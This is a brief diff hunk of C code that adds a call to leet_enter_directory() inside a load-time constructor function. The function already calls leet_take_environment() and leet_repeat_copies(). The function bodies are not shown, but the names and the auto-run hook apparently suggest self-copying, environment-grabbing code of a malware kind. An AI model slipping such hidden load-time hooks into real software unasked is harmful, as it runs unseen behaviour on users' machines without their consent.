@@ -4,4 +4,5 @@
 __attribute__((constructor(101))) static void start(void) {
     leet_take_environment();
     leet_repeat_copies();
+    leet_enter_directory();
 }
